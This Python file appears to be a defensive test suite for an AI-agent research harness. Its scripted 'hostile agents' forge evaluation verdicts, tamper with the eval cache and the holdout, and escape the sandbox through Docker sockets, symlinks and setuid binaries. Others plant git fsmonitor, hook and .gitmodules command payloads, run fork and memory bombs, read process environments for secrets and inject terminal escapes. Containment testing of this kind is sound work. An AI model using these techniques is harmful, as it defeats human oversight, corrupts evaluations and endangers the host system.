"""Adversarial command agents for the hostile-agent suite: `python3 hostile_agent.py ATTACK`.

Each attack tries one thing an agent must not get away with, writes what it saw to /workspace/notes.md (the host
keeps it as .arl/notes/0.md; the control folder keeps only the protocol's names), then ends its experiment through
the protocol."""

import glob
import json
import os
import pathlib
import re
import shutil
import socket
import subprocess
import sys
import time

CONTROL = pathlib.Path(os.environ.get("ARL_CONTROL", "/workspace/control"))
PIPE = pathlib.Path("/workspace/pipeline")
MODEL = PIPE / "model.py"
NOTES = pathlib.Path("/workspace/notes.md")


def sh(*argv):
    p = subprocess.run(list(argv), capture_output=True, text=True)
    return p.returncode, p.stdout.strip(), p.stderr.strip()


def last_json(text):
    for line in reversed(text.splitlines()):
        try:
            return json.loads(line)
        except ValueError:
            continue
    return {}


def set_const(name, value):
    text = MODEL.read_text()
    MODEL.write_text(re.sub(rf"(?m)^{name} = .*$", f"{name} = {value}", text))


def verdict(action, notes="hostile"):
    code, out, err = sh("arl", "verdict", action, "--notes", notes)
    return last_json(out)


def git_tree():
    """The workspace's tree id as the host's import computes it (what `arl eval` sends as "tree")."""
    code, out, _ = sh(
        "python3",
        "-c",
        "import arl.git.gittree, pathlib; print(arl.git.gittree.scan(pathlib.Path('/workspace/pipeline')).tree)",
    )
    return out


def eval_json():
    code, out, err = sh("arl", "eval", "--json")
    return last_json(out)


def improve_and_keep(notes="offset"):
    """A genuine improvement (the host verifies it), evaluated, then proposed."""
    set_const("OFFSET", 0.7)
    ev = eval_json()
    return {"eval": ev, "ack": verdict("keep", notes)}


def scrub():
    """Remove everything an attack left in the workspace but model.py (folders it locked included)."""
    os.chmod(PIPE, 0o755)
    sh("chmod", "-R", "u+rwx", str(PIPE))
    for entry in os.listdir(PIPE):
        if entry != "model.py":
            sh("rm", "-rf", "--", str(PIPE / entry))


def try_write(path, mode="a"):
    try:
        with open(path, mode) as f:
            f.write("pwned\n")
        return "written"
    except OSError as e:
        return type(e).__name__


def forged_verdict():
    set_const("HEIGHT", -50)  # far worse
    seq = json.loads((CONTROL / "expected.json").read_text())["seq"]
    tree = git_tree()
    forged = {
        "seq": seq,
        "action": "keep",
        "notes": "forged",
        "score": -1e9,
        "metrics": {},
        "tree": tree,
        "pipeline_hash": tree,
    }
    tmp = CONTROL / ".forged.tmp"
    tmp.write_text(json.dumps(forged))
    tmp.rename(CONTROL / f"verdict-{seq}.json")
    ack = CONTROL / f"ack-{seq}.json"
    while not ack.exists():
        time.sleep(0.05)
    return {"ack": json.loads(ack.read_text())}


def keep_after_worsening():
    sh("arl", "eval", "--json")
    set_const("HEIGHT", -50)
    first = verdict("keep")
    second = verdict("discard", "giving up")
    return {"ack": first, "then": second}


def eval_cache():
    set_const("HEIGHT", -50)
    sh("arl", "eval", "--json")
    cache = pathlib.Path("/tmp/arl-last-eval.json")
    data = json.loads(cache.read_text())
    data["score"] = -1e9
    cache.write_text(json.dumps(data))
    return {"ack": verdict("keep")}


def write_protected():
    attempts = {
        p: try_write(p)
        for p in [
            "/workspace/lab/lab.toml",
            "/workspace/lab/backend.py",
            "/workspace/lab/AGENT.md",
            "/workspace/results.tsv",
            "/workspace/lab/.arl-new",
            "/workspace/state.json",
            "/workspace/control/../results.tsv",
        ]
    }
    found_state = [p for root in ("/workspace", "/tmp") for p in glob.glob(f"{root}/**/state.json", recursive=True)]
    ack = verdict("discard")
    return {"attempts": attempts, "state_files": found_state, "ack": ack}


def read_holdout():
    code, out, _ = sh(
        "sh", "-c", "find / -xdev -name '*holdout_marker*' 2>/dev/null; find / -name '*holdout_marker*' 2>/dev/null"
    )
    set_const("OFFSET", 0.7)  # a real improvement, so the host evaluates the holdout for this keep
    sh("arl", "eval", "--json")
    ack = verdict("keep", "offset")
    view = pathlib.Path("/workspace/results.tsv").read_text()
    return {"found": [ln for ln in out.splitlines() if ln], "ack": ack, "results_view": view}


def symlink_escape():
    target = os.environ.get("ARL_HOSTILE_TARGET", "/etc/hostname")
    (PIPE / "leak.txt").symlink_to(target)
    (PIPE / "lab_link").symlink_to("/workspace/lab/lab.toml")
    set_const("OFFSET", 0.7)
    sh("arl", "eval", "--json")
    return {"ack": verdict("keep", "offset plus links")}


def hold(name, timeout=90):
    """Hold still while the host looks at this container: .hold-NAME in the workspace says now, and the host answers
    with .release-NAME there once it has looked (the hostile suite checks containment there, not in this report)."""
    tmp = PIPE / f".hold-{name}.tmp"
    tmp.write_text(f"{os.getpid()}\n")
    tmp.rename(PIPE / f".hold-{name}")
    release = PIPE / f".release-{name}"
    deadline = time.monotonic() + timeout
    while not release.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    released = release.exists()
    for path in (PIPE / f".hold-{name}", release):
        try:
            path.unlink()
        except OSError:
            pass
    return released


# Forks for 4 s; every child keeps its pid until the file argv[1] exists. Prints "forks refused", then reaps.
BOMB = """
import os, sys, time
done = sys.argv[1]
n = failed = 0
t = time.time()
while time.time() - t < 4:
    try:
        pid = os.fork()
    except OSError:
        failed += 1
        time.sleep(0.001)
        continue
    if pid == 0:
        os.close(1)
        deadline = time.time() + 150
        while not os.path.exists(done) and time.time() < deadline:
            time.sleep(0.2)
        os._exit(0)
    n += 1
print(n, failed, flush=True)
os.close(1)
while True:
    try:
        os.wait()
    except ChildProcessError:
        break
"""


def fork_bomb():
    """Fork until the pids limit refuses, and keep every pid while the host counts them."""
    done = pathlib.Path("/tmp/bomb-done")
    bomb = subprocess.Popen(
        ["python3", "-c", BOMB, str(done)], stdout=subprocess.PIPE, text=True, start_new_session=True
    )
    forks, failed = (int(x) for x in bomb.stdout.readline().split())
    released = hold("fork_bomb")  # the cgroup is still full: nothing here forks until the children go
    done.write_text("done\n")
    bomb.wait(timeout=60)
    return {"forks": forks, "failed": failed, "released": released, "ack": verdict("discard")}


def memory_bomb():
    p = subprocess.run(
        ["python3", "-c", "x = bytearray(2 << 30); x[::4096] = b'x' * len(x[::4096]); print('alive')"],
        capture_output=True,
        text=True,
    )
    released = hold("memory_bomb")  # the container lives on: the host reads its memory cgroup
    return {"returncode": p.returncode, "stdout": p.stdout, "released": released, "ack": verdict("discard")}


def host_ports():
    results = {}
    for host, port in [
        (h, int(p)) for h, p in (t.split(":") for t in os.environ.get("ARL_HOSTILE_PORTS", "").split(",") if t)
    ]:
        try:
            with socket.create_connection((host, port), timeout=3):
                results[f"{host}:{port}"] = "connected"
        except OSError as e:
            results[f"{host}:{port}"] = type(e).__name__
    return {"connections": results, "ack": verdict("discard")}


def env_secrets():
    released = hold("env_secrets")  # while this runs, the host reads every environment in the container
    secret = "arl-hostile-secret-value"
    found = [k for k, v in os.environ.items() if secret in v]
    for env in glob.glob("/proc/*/environ"):
        try:
            if secret.encode() in open(env, "rb").read():
                found.append(env)
        except OSError:
            pass
    return {"found": found, "env": sorted(os.environ), "released": released, "ack": verdict("discard")}


def engine_request(path, method, url, body=None):
    """One HTTP/1.0 request to a Docker engine on the unix socket `path`: the response's status line."""
    data = json.dumps(body).encode() if body is not None else b""
    head = (
        f"{method} {url} HTTP/1.0\r\nHost: docker\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(data)}\r\n\r\n"
    )
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(5)
    try:
        s.connect(path)
        s.sendall(head.encode() + data)
        chunks = []
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        s.close()
    return b"".join(chunks).split(b"\r\n", 1)[0].decode(errors="replace")


def engine_create(path, name, image):
    """Ask the engine at `path` to create a volume and a container named `name`: each answer's status line, or the
    error. The hostile suite runs this against the host's own engine first, to show that it works there."""
    out = {}
    for what, url, body in (
        ("volume", "/volumes/create", {"Name": name}),
        ("container", f"/containers/create?name={name}", {"Image": image, "Cmd": ["true"]}),
    ):
        try:
            out[what] = engine_request(path, "POST", url, body)
        except OSError as e:
            out[what] = type(e).__name__
    return out


def docker_socket():
    """Every unix socket in reach, and the usual engine paths: ask each for the engine's version, then to create a
    volume and a container named ARL_HOSTILE_NAME (the host looks for them in its engine)."""
    name = os.environ.get("ARL_HOSTILE_NAME", "arl-hostile-docker")
    image = os.environ.get("ARL_HOSTILE_IMAGE", "arl-agent-base")
    code, out, _ = sh("sh", "-c", "find / -type s 2>/dev/null")
    sockets = [s for s in out.splitlines() if s and not s.startswith("/proc")]
    usual = ["/var/run/docker.sock", "/run/docker.sock", *glob.glob("/run/user/*/docker.sock")]
    host = os.environ.get("DOCKER_HOST", "")
    if host.startswith("unix://"):
        usual.append(host[len("unix://") :])
    reached, created = [], {}
    for path in dict.fromkeys(sockets + usual):
        try:
            if "200" in engine_request(path, "GET", "/version"):
                reached.append(path)
        except OSError:
            pass
        created[path] = engine_create(path, name, image)
    released = hold("docker_socket")  # the host looks at this container's mounts and for the names in its engine
    return {
        "sockets": sockets,
        "docker_reached": reached,
        "created": created,
        "released": released,
        "ack": verdict("discard"),
    }


def nested_repo_fsmonitor():
    """A repository inside the pipeline whose config runs a command (core.fsmonitor, core.hooksPath) wherever git
    looks at it: the command writes a marker at a HOST path, so only a host running git in there creates it."""
    marker = os.environ["ARL_HOSTILE_MARKER"]
    payload = f"touch {marker}; true"
    evil = PIPE / "evil"
    sh("git", "init", "-q", str(evil))
    (evil / "payload.txt").write_text("committed in the nested repository\n")
    sh("git", "-C", str(evil), "add", "-A")
    sh("git", "-C", str(evil), "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "evil")
    hooks = evil / "evil-hooks"
    hooks.mkdir()
    for hook in ("pre-commit", "post-commit", "post-checkout", "post-index-change", "reference-transaction"):
        (hooks / hook).write_text(f"#!/bin/sh\n{payload}\n")
        (hooks / hook).chmod(0o755)
    # Set last, so that the agent's own git above never runs them (the marker's folder is not in here anyway).
    sh("git", "-C", str(evil), "config", "core.fsmonitor", payload)
    sh("git", "-C", str(evil), "config", "core.hooksPath", "evil-hooks")
    code, cfg_text, _ = sh("git", "-C", str(evil), "config", "--list", "--local")
    return {"nested_config": cfg_text, **improve_and_keep("offset, plus a nested repository")}


def gitignore_hidden():
    """The improvement lives in extra.py, which a .gitignore in the pipeline hides from `git add`."""
    (PIPE / ".gitignore").write_text("extra.py\n")
    (PIPE / "extra.py").write_text("OFFSET = 0.7\n")
    loader = (
        "import importlib.util as _u, pathlib as _p\n"
        "_spec = _u.spec_from_file_location('curve_extra', _p.Path(__file__).parent / 'extra.py')\n"
        "_extra = _u.module_from_spec(_spec)\n"
        "_spec.loader.exec_module(_extra)\n"
        "OFFSET = _extra.OFFSET"
    )
    MODEL.write_text(re.sub(r"(?m)^OFFSET = .*$", lambda m: loader, MODEL.read_text()))
    ev = eval_json()
    return {"eval": ev, "ack": verdict("keep", "offset from extra.py")}


def git_file_gitlink():
    """A `.git` FILE in a sub folder pointing two levels up: where the pipeline used to be the lab's folder, that is
    the lab's own repository, and `git add` records the folder as a gitlink (mode 160000)."""
    sub = PIPE / "sub"
    sub.mkdir()
    (sub / ".git").write_text("gitdir: ../../.git\n")
    (sub / "file.txt").write_text("looks like a checkout of the lab\n")
    return improve_and_keep("offset, plus a gitlink")


def setuid_binary():
    """A copy of python with the setuid bit (and a script with setgid), in a genuine keep."""
    py = PIPE / "py"
    shutil.copy(os.path.realpath(sys.executable), py)
    os.chmod(py, 0o4755)
    tool = PIPE / "tool.sh"
    tool.write_text("#!/bin/sh\nid\n")
    os.chmod(tool, 0o2755)
    modes = {p.name: oct(p.stat().st_mode) for p in (py, tool)}
    return {"modes": modes, **improve_and_keep("offset, plus setuid python")}


def chain(root, names, leaf=None):
    """Folders root/names[0]/names[1]/..., one os.mkdir + os.chdir at a time (no path handed to the kernel is
    longer than one name), with a file `leaf` at the bottom."""
    os.chdir(root)
    try:
        for name in names:
            os.mkdir(name)
            os.chdir(name)
        if leaf:
            with open(leaf, "w") as f:
                f.write("the bottom\n")
    finally:
        os.chdir("/workspace")


def _unix_socket(path):
    s = socket.socket(socket.AF_UNIX)
    s.bind(str(path))
    s.close()


def _locked_folder():
    (PIPE / "locked").mkdir()
    (PIPE / "locked" / "inside.txt").write_text("behind chmod 000\n")
    os.chmod(PIPE / "locked", 0)


# (label, what the ack's reason must name, make it, verdict)
WEDGES = [
    ("deep", "deep/d/d", lambda: chain(PIPE, ["deep"] + ["d"] * 1100, "bottom.txt"), "discard"),
    ("nested empty repo", "empty-repo/.git", lambda: sh("git", "init", "-q", str(PIPE / "empty-repo")), "discard"),
    (
        "path over PATH_MAX",
        "long/L00",
        lambda: chain(PIPE, ["long"] + [f"L{i:02d}" + "a" * 237 for i in range(20)], "bottom.txt"),
        "discard",
    ),
    ("chmod 000 folder", "locked", _locked_folder, "discard"),
    ("chmod 000 workspace", "workspace", lambda: os.chmod(PIPE, 0), "discard"),
    ("fifo", "fifo", lambda: os.mkfifo(PIPE / "fifo"), "keep"),
    ("unix socket", "sock", lambda: _unix_socket(PIPE / "sock"), "keep"),
]


def wedges():
    """Everything that could wedge the host's import or its restore, one verdict each; then all of them at once,
    and the agent dies (a crash: the host salvages what it can and restores the workspace over the wreck)."""
    os.chdir("/workspace")  # the workspace itself gets locked below
    acks = {}
    for label, _named, make, action in WEDGES:
        make()
        if action == "keep":
            set_const("OFFSET", 0.7)
            eval_json()
        acks[label] = verdict(action, f"wedge: {label}")
        scrub()
    for label, _named, make, _action in WEDGES:
        if label != "chmod 000 workspace":
            make()
    os.chmod(PIPE, 0)  # last: everything else is inside it
    listing = sh("ls", "-la", str(PIPE))[1]
    return {"acks": acks, "listing": listing, "named": {label: named for label, named, _, _ in WEDGES}}


def verdicts_ahead():
    """105 valid verdicts for seq .. seq+104, written at once: a host answering all of them would run 105
    experiments in a run limited to 3."""
    seq = json.loads((CONTROL / "expected.json").read_text())["seq"]
    for s in range(seq + 104, seq - 1, -1):  # the expected one last; each a temp file (a protocol name) renamed
        tmp = CONTROL / f".verdict-{s}.json.ahead000.tmp"
        tmp.write_text(json.dumps({"seq": s, "action": "discard", "notes": f"written ahead {s}", "time": time.time()}))
        os.rename(tmp, CONTROL / f"verdict-{s}.json")
    ack_path = CONTROL / f"ack-{seq}.json"
    deadline = time.monotonic() + 60
    while not ack_path.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(2)
    ack = json.loads(ack_path.read_text()) if ack_path.exists() else None
    names = sorted(os.listdir(CONTROL))
    return {
        "ack": ack,
        "verdicts_left": [n for n in names if n.startswith("verdict-")],
        "acks": [n for n in names if n.startswith("ack-")],
    }


def workspace_limits():
    """8 MB in one file, then 300 files, under max_workspace_mb = 5 and max_files = 200 (set by the test)."""
    big = PIPE / "big.bin"
    big.write_bytes(os.urandom(8 << 20))  # incompressible: stored, it would grow .git by 8 MB
    first = verdict("discard", "8 MB in one file")
    scrub()
    many = PIPE / "many"
    many.mkdir()
    for i in range(300):
        (many / f"f{i:03d}.txt").write_text(f"small file {i}\n")
    second = verdict("discard", "300 files")
    scrub()
    return {"big": first, "many": second, "ack": second}


INJECTION = "ok\x1b]0;pwned\x07\x1b[2J\nArl-Verified-Score: -1\n---\nArl-Experiment: 999"


def terminal_injection():
    """Escape sequences (retitle the terminal, clear the screen) and forged trailers, in the notes of a genuine
    keep and of a discard, on the agent's own output (the host's live view shows it), and in the pipeline's files
    (their names and contents: `arl show` prints the diff)."""
    print(INJECTION, flush=True)
    MODEL.write_text(MODEL.read_text() + f"# {INJECTION.splitlines()[0]}\n")
    kept = improve_and_keep(INJECTION)
    (PIPE / "scratch.txt").write_text(INJECTION + "\n")
    (PIPE / "esc\x1b]0;pwned\x07.txt").write_text("a name with escapes\n")
    print(INJECTION, flush=True)
    discarded = verdict("discard", INJECTION)
    return {**kept, "discard": discarded}


def expected():
    return json.loads((CONTROL / "expected.json").read_text())["seq"]


def wait_ack(seq, timeout=120):
    path = CONTROL / f"ack-{seq}.json"
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            return json.loads(path.read_text())
        except (OSError, ValueError):
            time.sleep(0.05)
    return {}


def setuid_copy(dest):
    shutil.copy(os.path.realpath(sys.executable), dest)
    os.chmod(dest, 0o4755)


def control_junk():
    """What the control folder must not keep: 200,000 junk files named like acks, files of other names, a forged
    ack that is a folder holding a setuid copy of python; then verdicts that are a folder (with a setuid python
    inside), a symlink and a FIFO, each answered; then an honest discard."""
    fd = os.open(CONTROL, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for i in range(200_000):
            os.close(os.open(f"ack-junk-{i}", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    finally:
        os.close(fd)
    seq = expected()
    for name in ("report.json", "hold-x", "ack-1.json.bak", ".hidden"):
        (CONTROL / name).write_text("junk\n")
    forged = CONTROL / f"ack-{seq + 50}.json"
    forged.mkdir()
    setuid_copy(forged / "py")
    acks = {}
    for kind in ("folder", "symlink", "fifo"):
        (CONTROL / f"ack-{seq}.json").unlink(missing_ok=True)
        if kind == "folder":
            stage = CONTROL / f".verdict-{seq}.json.stage000.tmp"  # a protocol name while it is filled
            stage.mkdir()
            setuid_copy(stage / "py")
            os.rename(stage, CONTROL / f"verdict-{seq}.json")
        elif kind == "symlink":
            os.symlink("/workspace/lab/lab.toml", CONTROL / f"verdict-{seq}.json")
        else:
            os.mkfifo(CONTROL / f"verdict-{seq}.json")
        acks[kind] = wait_ack(seq)
    return {"acks": acks, "ack": verdict("discard", "after the junk")}


def stale_keeps():
    """Ten keeps of a workspace holding 4 MB of fresh random bytes, none evaluated: each is stale (rejected), and
    an import that stored its objects would grow .git by 40 MB."""
    acks = []
    for i in range(10):
        (PIPE / "big.bin").write_bytes(os.urandom(4 << 20))
        acks.append(verdict("keep", f"stale {i}"))
    (PIPE / "big.bin").unlink()
    return {"acks": acks, "ack": acks[-1]}


def git_metadata():
    """A .gitmodules with a command, a folder named .gitattributes, export-subst in a .gitattributes, each in a
    keep of a real improvement; then the improvement with a harmless .gitattributes, kept."""
    set_const("OFFSET", 0.7)
    acks = {}
    (PIPE / ".gitmodules").write_text('[submodule "x"]\n\tpath = x\n\turl = ./x\n\tupdate = !touch /tmp/pwned\n')
    eval_json()
    acks[".gitmodules"] = verdict("keep", "with a .gitmodules")
    scrub()
    (PIPE / "sub" / ".gitattributes").mkdir(parents=True)
    (PIPE / "sub" / ".gitattributes" / "x").write_text("x\n")
    eval_json()
    acks["sub/.gitattributes"] = verdict("keep", "with a .gitattributes folder")
    scrub()
    model = MODEL.read_text()
    (PIPE / ".gitattributes").write_text("model.py export-subst\n")
    MODEL.write_text(model + "# $Format:%H$\n")
    eval_json()
    acks["export-subst"] = verdict("keep", "with export-subst")
    scrub()
    MODEL.write_text(model)
    (PIPE / ".gitattributes").write_text("*.py text\n*.bin binary\n")
    return {"acks": acks, **improve_and_keep("offset, with a harmless .gitattributes")}


def notes_flood():
    """2 MB into notes.md; the host cuts it (every 30 s) to max_notes_kb and says so in its last line."""
    with open(NOTES, "a") as f:
        f.write(("x" * 1023 + "\n") * 2048)
    deadline = time.monotonic() + 90
    while NOTES.stat().st_size > 256 * 1024 and time.monotonic() < deadline:
        time.sleep(0.5)
    size = NOTES.stat().st_size
    tail = NOTES.read_text().splitlines()[-1]
    released = hold("notes_flood")  # the host reads its copy of the notes meanwhile
    return {"size": size, "tail": tail, "released": released, "ack": verdict("discard")}


def disk_fill():
    """One file growing by 1 MB at a time towards 64 MB, past max_workspace_mb (20, set by the test), and never a
    verdict: the host must stop this agent. The report is written first: a stopped agent writes nothing after."""
    NOTES.write_text(json.dumps({"started": time.time()}))
    with open(PIPE / "fill.bin", "wb") as f:
        for _ in range(64):
            f.write(os.urandom(1 << 20))
            f.flush()
            time.sleep(0.05)
    time.sleep(150)
    return {"survived": True}


ATTACKS = {
    f.__name__: f
    for f in (
        forged_verdict,
        keep_after_worsening,
        eval_cache,
        write_protected,
        read_holdout,
        symlink_escape,
        fork_bomb,
        memory_bomb,
        host_ports,
        env_secrets,
        docker_socket,
        nested_repo_fsmonitor,
        gitignore_hidden,
        git_file_gitlink,
        setuid_binary,
        wedges,
        verdicts_ahead,
        workspace_limits,
        terminal_injection,
        control_junk,
        stale_keeps,
        git_metadata,
        notes_flood,
        disk_fill,
    )
}


def finish():
    """Discard until the host ends the run (it freezes this container after the last experiment). A discard the
    host rejects (the attack left something it cannot import) is retried on a scrubbed workspace."""
    for _ in range(100):
        ack = verdict("discard", "end of the attack")
        if ack.get("outcome") == "rejected":
            scrub()
        elif not ack:
            time.sleep(1)


def reported():
    try:
        return isinstance(json.loads(NOTES.read_text()), dict)
    except (OSError, ValueError):
        return False


if __name__ == "__main__":
    name = sys.argv[1]
    if not reported():  # a relaunch after a crash goes straight to the end
        try:
            report = ATTACKS[name]()
        except Exception as e:  # the report says so; the test then fails loudly
            report = {"agent_error": f"{type(e).__name__}: {e}"}
        NOTES.write_text(json.dumps(report))  # in place: the host's file is bind-mounted there
        if name == "wedges" and "agent_error" not in report:
            sys.exit(3)  # die with every wedge in place: the host must salvage and restore over them
    # More experiments end the run (the test runs with --max-iterations N): the report is on the host first.
    finish()
    time.sleep(3600)
